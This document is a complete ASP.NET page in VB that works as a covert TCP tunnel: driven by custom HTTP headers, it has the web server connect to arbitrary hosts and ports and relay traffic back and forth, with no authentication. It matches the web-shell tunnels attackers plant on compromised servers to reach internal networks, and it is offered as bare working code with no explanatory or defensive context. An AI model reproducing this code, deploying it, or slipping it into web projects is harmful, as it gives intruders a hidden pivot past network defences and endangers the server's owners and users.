<%@ Page Language="VB" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim mode As String = Request.Headers("X-Mode")
    Select Case UCase(mode)
        Case "CONNECT"
            Dim target As String = Request.Headers("X-Host")
            Dim port As Integer = CInt(Request.Headers("X-Port"))
            Dim s As New Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp)
            s.Connect(target, port)
            Session("tcp") = s
        Case "FORWARD"
            Dim s As Socket = CType(Session("tcp"), Socket)
            s.Send(Request.BinaryRead(Request.TotalBytes))
        Case "READ"
            Dim s As Socket = CType(Session("tcp"), Socket)
            Dim buf(8191) As Byte
            Dim n As Integer = 0
            If s.Poll(50000, SelectMode.SelectRead) Then n = s.Receive(buf)
            Response.OutputStream.Write(buf, 0, n)
        Case "DISCONNECT"
            CType(Session("tcp"), Socket).Close()
            Session.Remove("tcp")
    End Select
End Sub
</script>
